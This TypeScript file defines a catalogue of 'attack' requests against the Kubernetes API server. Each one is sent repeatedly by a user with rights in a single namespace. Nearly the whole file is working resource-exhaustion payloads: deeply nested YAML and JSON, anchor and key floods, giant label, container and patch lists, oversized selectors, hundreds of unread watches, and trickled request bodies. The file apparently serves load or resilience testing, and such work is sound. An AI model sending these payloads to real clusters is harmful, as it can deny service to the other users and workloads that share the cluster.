/** A request that a user with rights only in the namespace `attack` sends again and again. */
export interface Attack {
  /** The number of parallel requests. Default: 4. */
  readonly parallel?: number
  readonly method: 'GET' | 'PATCH' | 'POST' | 'PUT'
  readonly path: string
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: () => Uint8Array
  /** Answers are not read: connections that stay. */
  readonly isUnread?: boolean
  /** All requests go over one HTTP/2 connection per user. */
  readonly isHttp2?: boolean
  /** The number of users who send the request, 1 to 4. Default: 2. */
  readonly users?: number
}

const json = 'application/json'
const yaml = 'application/yaml'
const configMaps = '/api/v1/namespaces/attack/configmaps'
const review = '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews'
const opens = '/apis/hostile.example.com/v1/namespaces/attack/opens'
const apply = '?fieldManager=attack&force=true'

function many(count: number, item: (index: number) => string, separator = ','): string {
  return Array.from({ length: count }, (_, index) => item(index)).join(separator)
}

function sent(method: Attack['method'], path: string, type: string, text: () => string): Attack {
  return { method, path, headers: { 'content-type': type }, body: () => Buffer.from(text()) }
}

const yamlHead = 'apiVersion: authorization.k8s.io/v1\nkind: SelfSubjectAccessReview\n'
const mapHead = '"apiVersion":"v1","kind":"ConfigMap","metadata":{"generateName":"a"'
const openHead = '"apiVersion":"hostile.example.com/v1","kind":"Open","metadata":{"name":"kept"}'
const podHead = '"apiVersion":"v1","kind":"Pod","metadata":{"generateName":"a"}'
const container = '{"name":"a","image":"a"}'

/** Shows what the machine itself makes others wait. */
const nothing: Attack = { method: 'GET', path: '/readyz', parallel: 0 }

/** Bodies that every authenticated user may send. */
const beforeRights: Readonly<Record<string, Attack>> = {
  'yaml-brackets-1MB': sent('POST', review, yaml, () => `${yamlHead}a: ${'['.repeat(1_000_000)}`),
  'yaml-brackets-30kB': sent('POST', review, yaml, () => `${yamlHead}a: ${'['.repeat(30_000)}`),
  'yaml-brackets-2kB': sent('POST', review, yaml, () => `${yamlHead}a: ${'['.repeat(1_900)}`),
  'yaml-nested-keys': sent('POST', review, yaml, () => `${yamlHead}a:\n  ${'? '.repeat(400)}`),
  'yaml-commas': sent('POST', review, yaml, () => `${yamlHead}a: [${','.repeat(100_000)}]`),
  'yaml-anchors': sent(
    'POST',
    review,
    yaml,
    () => `${yamlHead}${many(150_000, (at) => `a${at}: &a${at} 1`, '\n')}`,
  ),
  'json-unknown-keys': sent(
    'POST',
    `${review}?fieldValidation=Warn`,
    json,
    () =>
      `{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","spec":{${many(200_000, (at) => `"u${at}":1`)}}}`,
  ),
  'json-duplicate-keys': sent(
    'POST',
    `${review}?fieldValidation=Warn`,
    json,
    () =>
      `{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","spec":{${many(400_000, () => '"u":1')}}}`,
  ),
  'json-deep': sent('POST', review, json, () => `{"a":${'['.repeat(1_500_000)}`),
  'json-empty-lists': sent(
    'POST',
    review,
    json,
    () => `{"kind":"SelfSubjectAccessReview","spec":{"a":[${many(1_000_000, () => '[]')}]}}`,
  ),
  'json-list-body': sent(
    'POST',
    review,
    json,
    () =>
      `{"apiVersion":"v1","kind":"List","items":[${many(50_000, () => '{"kind":"ConfigMap"}')}]}`,
  ),
  'json-groups': sent(
    'POST',
    '/apis/authorization.k8s.io/v1/subjectaccessreviews',
    json,
    () =>
      `{"apiVersion":"authorization.k8s.io/v1","kind":"SubjectAccessReview","spec":{"groups":[${many(250_000, (at) => `"g${at}"`)}]}}`,
  ),
}

/** Objects that a user of one namespace may write. */
const writes: Readonly<Record<string, Attack>> = {
  'create-many-keys': sent(
    'POST',
    configMaps,
    json,
    () => `{${mapHead}},"data":{${many(40_000, (at) => `"k${at}":""`)}}}`,
  ),
  'create-many-labels': sent(
    'POST',
    configMaps,
    json,
    () => `{${mapHead},"labels":{${many(90_000, (at) => `"k${at}":"!"`)}}}}`,
  ),
  'create-many-owners': sent(
    'POST',
    configMaps,
    json,
    () =>
      `{${mapHead},"ownerReferences":[${many(20_000, (at) => `{"apiVersion":"v1","kind":"Pod","name":"a${at}","uid":"${at}"}`)}]}}`,
  ),
  'create-many-finalizers': sent(
    'POST',
    configMaps,
    json,
    () => `{${mapHead},"finalizers":[${many(90_000, (at) => `"a.b/c${at}"`)}]}}`,
  ),
  'create-many-managers': sent(
    'POST',
    configMaps,
    json,
    () =>
      `{${mapHead},"managedFields":[${many(10_000, (at) => `{"manager":"m${at}","operation":"Apply","apiVersion":"v1","fieldsType":"FieldsV1","fieldsV1":{"f:data":{"f:k${at}":{}}}}`)}]}}`,
  ),
  'pod-many-containers': sent(
    'POST',
    '/api/v1/namespaces/attack/pods?dryRun=All',
    json,
    () =>
      `{${podHead},"spec":{"serviceAccountName":"mallory","containers":[${many(25_000, (at) => `{"name":"a${at}","image":"a"}`)}]}}`,
  ),
  'pod-many-ports': sent(
    'POST',
    '/api/v1/namespaces/attack/pods?dryRun=All',
    json,
    () =>
      `{${podHead},"spec":{"serviceAccountName":"mallory","containers":[{"name":"a","image":"a","ports":[${many(50_000, (at) => `{"containerPort":${(at % 65_000) + 1}}`)}]}]}}`,
  ),
  'pod-many-env': sent(
    'POST',
    '/api/v1/namespaces/attack/pods?dryRun=All',
    json,
    () =>
      `{${podHead},"spec":{"serviceAccountName":"mallory","containers":[{"name":"a","image":"a","env":[${many(60_000, (at) => `{"name":"E${at}","value":"$(E${at + 1})"}`)}]}]}}`,
  ),
  'pod-many-volumes': sent(
    'POST',
    '/api/v1/namespaces/attack/pods?dryRun=All',
    json,
    () =>
      `{${podHead},"spec":{"serviceAccountName":"mallory","volumes":[${many(40_000, (at) => `{"name":"v${at}","emptyDir":{}}`)}],"containers":[${container}]}}`,
  ),
  'pod-many-tolerations': sent(
    'POST',
    '/api/v1/namespaces/attack/pods?dryRun=All',
    json,
    () =>
      `{${podHead},"spec":{"serviceAccountName":"mallory","tolerations":[${many(40_000, (at) => `{"key":"k${at}","operator":"Exists"}`)}],"containers":[${container}]}}`,
  ),
  'long-quantity': sent(
    'POST',
    '/api/v1/namespaces/attack/pods?dryRun=All',
    json,
    () =>
      `{${podHead},"spec":{"serviceAccountName":"mallory","containers":[{"name":"a","image":"a","resources":{"limits":{"cpu":"${'1'.repeat(1_000_000)}"}}}]}}`,
  ),
  'service-many-ports': sent(
    'POST',
    '/api/v1/namespaces/attack/services?dryRun=All',
    json,
    () =>
      `{"apiVersion":"v1","kind":"Service","metadata":{"generateName":"a"},"spec":{"ports":[${many(40_000, (at) => `{"name":"p${at}","port":${(at % 65_000) + 1}}`)}]}}`,
  ),
  'policy-many-peers': sent(
    'POST',
    '/apis/networking.k8s.io/v1/namespaces/attack/networkpolicies?dryRun=All',
    json,
    () =>
      `{"apiVersion":"networking.k8s.io/v1","kind":"NetworkPolicy","metadata":{"generateName":"a"},"spec":{"podSelector":{},"ingress":[{"from":[${many(40_000, (at) => `{"ipBlock":{"cidr":"10.${at % 250}.0.0/16"}}`)}]}]}}`,
  ),
  'custom-big': sent(
    'POST',
    `${opens}?dryRun=All`,
    json,
    () =>
      `{${openHead.replace('kept', 'other')},"spec":{"items":[${many(100_000, (at) => `{"name":"a${at}"}`)}]}}`,
  ),
  'custom-keyed-list': sent(
    'POST',
    `${opens}?dryRun=All`,
    json,
    () =>
      `{${openHead.replace('kept', 'other')},"spec":{"keyed":[${many(50_000, (at) => `{"name":"a${at}"}`)}]}}`,
  ),
  'custom-set': sent(
    'POST',
    `${opens}?dryRun=All`,
    json,
    () =>
      `{${openHead.replace('kept', 'other')},"spec":{"set":[${many(150_000, (at) => `"a${at}"`)}]}}`,
  ),
  'custom-rule': sent(
    'POST',
    `${opens}?dryRun=All`,
    json,
    () =>
      `{${openHead.replace('kept', 'other')},"spec":{"checked":[${many(1_000, (at) => `"a${at}"`)}]}}`,
  ),
  'custom-wrong-items': sent(
    'POST',
    `${opens}?dryRun=All`,
    json,
    () =>
      `{${openHead.replace('kept', 'other')},"spec":{"keyed":[${many(100_000, () => `{"name":1}`)}]}}`,
  ),
  'protobuf-repeated': {
    method: 'POST',
    path: configMaps,
    headers: { 'content-type': 'application/vnd.kubernetes.protobuf' },
    body: () => protobufOf(Buffer.alloc(2_900_000, Buffer.from([0x12, 0x00]))),
  },
}

/** Returns the bytes as a runtime.Unknown of a ConfigMap. */
function protobufOf(raw: Uint8Array): Uint8Array {
  const type = [0x0a, 0x0f, 0x0a, 0x02, 0x76, 0x31, 0x12, 0x09, ...Buffer.from('ConfigMap')]
  const length: number[] = []
  for (let left = raw.length; ; left >>>= 7) {
    length.push(left > 127 ? (left & 127) | 128 : left)
    if (left <= 127) break
  }
  return Buffer.concat([Buffer.from('k8s\0'), Buffer.from([...type, 0x12, ...length]), raw])
}

/** Patches of the object `kept`, each of whose lists and maps has thousands of entries. */
const patches: Readonly<Record<string, Attack>> = {
  'json-patch-inserts': sent(
    'PATCH',
    `${opens}/kept?dryRun=All`,
    'application/json-patch+json',
    () => `[${many(9_000, () => '{"op":"add","path":"/spec/items/0","value":1}')}]`,
  ),
  'json-patch-tests': sent(
    'PATCH',
    `${opens}/kept?dryRun=All`,
    'application/json-patch+json',
    () => `[${many(9_000, () => '{"op":"test","path":"/spec/items","value":[]}')}]`,
  ),
  'json-patch-copies': sent(
    'PATCH',
    `${opens}/kept?dryRun=All`,
    'application/json-patch+json',
    () => `[${many(9_000, (at) => `{"op":"copy","from":"/spec/items","path":"/spec/c${at}"}`)}]`,
  ),
  'json-patch-deep-paths': sent(
    'PATCH',
    `${opens}/kept?dryRun=All`,
    'application/json-patch+json',
    () => `[${many(400, () => `{"op":"test","path":"${'/a'.repeat(3_000)}","value":1}`)}]`,
  ),
  'merge-patch-keys': sent(
    'PATCH',
    `${opens}/kept?dryRun=All`,
    'application/merge-patch+json',
    () => `{"spec":{"map":{${many(150_000, (at) => `"k${at}":"v"`)}}}}`,
  ),
  'strategic-keyed': sent(
    'PATCH',
    '/apis/apps/v1/namespaces/attack/deployments/kept?dryRun=All',
    'application/strategic-merge-patch+json',
    () =>
      `{"spec":{"template":{"spec":{"containers":[{"name":"a","env":[${many(50_000, (at) => `{"name":"N${at}","value":"v"}`)}]}]}}}}`,
  ),
  'strategic-order': sent(
    'PATCH',
    '/apis/apps/v1/namespaces/attack/deployments/kept?dryRun=All',
    'application/strategic-merge-patch+json',
    () =>
      `{"spec":{"template":{"spec":{"containers":[{"name":"a","$setElementOrder/env":[${many(50_000, (at) => `{"name":"E${7_999 - at}"}`)}],"env":[{"name":"E0","$patch":"delete"}]}],"$setElementOrder/containers":[{"name":"a"}]}}}}`,
  ),
  'apply-keyed-list': sent(
    'PATCH',
    `${opens}/kept${apply}&dryRun=All`,
    'application/apply-patch+yaml',
    () => `{${openHead},"spec":{"keyed":[${many(50_000, (at) => `{"name":"n${at}","v":1}`)}]}}`,
  ),
  'apply-converted': sent(
    'PATCH',
    `/apis/autoscaling/v1/namespaces/attack/horizontalpodautoscalers/kept${apply}`,
    'application/apply-patch+yaml',
    () =>
      '{"apiVersion":"autoscaling/v1","kind":"HorizontalPodAutoscaler","metadata":{"name":"kept","labels":{"a":"b"}}}',
  ),
  'apply-set': sent(
    'PATCH',
    `${opens}/kept${apply}&dryRun=All`,
    'application/apply-patch+yaml',
    () => `{${openHead},"spec":{"set":[${many(100_000, (at) => `"n${at}"`)}]}}`,
  ),
  'apply-conflicts': sent(
    'PATCH',
    `${opens}/kept?fieldManager=other&dryRun=All`,
    'application/apply-patch+yaml',
    () => `{${openHead},"spec":{"map":{${many(20_000, (at) => `"k${at}":"other"`)}}}}`,
  ),
  'update-managed': sent(
    'PATCH',
    `${opens}/kept?dryRun=All`,
    'application/merge-patch+json',
    () => `{"spec":{"keyed":[${many(50_000, (at) => `{"name":"m${at}"}`)}]}}`,
  ),
}

const table = { accept: 'application/json;as=Table;v=v1;g=meta.k8s.io' }

/** A watch that begins with all ConfigMaps of the namespace, of which there are thousands. */
const watchList = `${configMaps}?watch=1&sendInitialEvents=true&allowWatchBookmarks=true&resourceVersionMatch=NotOlderThan`

function unread(path: string, headers: Readonly<Record<string, string>> = {}): Attack {
  return { method: 'GET', path, headers, isUnread: true, parallel: 200 }
}

const reads: Readonly<Record<string, Attack>> = {
  'list-table': { method: 'GET', path: opens.replace('opens', 'rows'), headers: table },
  'list-table-objects': {
    method: 'GET',
    path: `${configMaps}?includeObject=Object`,
    headers: table,
  },
  'list-yaml': { method: 'GET', path: configMaps, headers: { accept: yaml } },
  'get-yaml': { method: 'GET', path: `${opens}/kept`, headers: { accept: yaml } },
  'list-pretty': { method: 'GET', path: `${configMaps}?pretty=true` },
  'list-partial': {
    method: 'GET',
    path: configMaps,
    headers: { accept: 'application/json;as=PartialObjectMetadataList;v=v1;g=meta.k8s.io' },
  },
  'list-protobuf': {
    method: 'GET',
    path: configMaps,
    headers: { accept: 'application/vnd.kubernetes.protobuf' },
  },
  'list-gzip': { method: 'GET', path: configMaps, headers: { 'accept-encoding': 'gzip' } },
  'list-labels': {
    method: 'GET',
    path: `${configMaps}?labelSelector=${encodeURIComponent(`a notin (${many(40_000, (at) => `v${at}`)})`)}`,
  },
  'list-many-labels': {
    method: 'GET',
    path: `${configMaps}?labelSelector=${many(9_000, (at) => `k${at}!%3Dv${at}`)}`,
  },
  'list-many-fields': {
    method: 'GET',
    path: `${configMaps}?fieldSelector=${many(9_000, (at) => `metadata.name!%3Dv${at}`)}`,
  },
  'list-historic': {
    method: 'GET',
    path: `${configMaps}?resourceVersionMatch=Exact&resourceVersion=1`,
  },
  'query-many-keys': { method: 'GET', path: `${configMaps}/none?${many(100_000, () => 'a', '&')}` },
  'open-api': { method: 'GET', path: '/openapi/v2' },
  'open-api-v3': { method: 'GET', path: '/openapi/v3/apis/apps/v1' },
  discovery: {
    method: 'GET',
    path: '/apis',
    headers: { accept: `${json};g=apidiscovery.k8s.io;v=v2;as=APIGroupDiscoveryList` },
  },
  'list-unread': unread(configMaps),
  'list-unread-http2': { ...unread(configMaps), isHttp2: true },
  'list-unread-gzip': unread(configMaps, { 'accept-encoding': 'gzip' }),
  'watch-list-unread': { ...unread(watchList), users: 1 },
  'watch-list-unread-http2': { ...unread(watchList), isHttp2: true },
  'watch-list-unread-4-users': { ...unread(watchList), users: 4 },
  'watch-from-0-unread': unread(`${configMaps}?watch=1&resourceVersion=0`),
  'watch-table-unread': unread(`${configMaps}?watch=1&includeObject=Object`, table),
  'bodies-trickled': {
    method: 'POST',
    path: configMaps,
    headers: { 'content-type': json, 'content-length': '3000000' },
    body: () => Buffer.alloc(2_900_000, ' '),
    isUnread: true,
    parallel: 200,
  },
}

export const attacks: Readonly<Record<string, Attack>> = Object.freeze({
  nothing,
  ...beforeRights,
  ...writes,
  ...patches,
  ...reads,
})
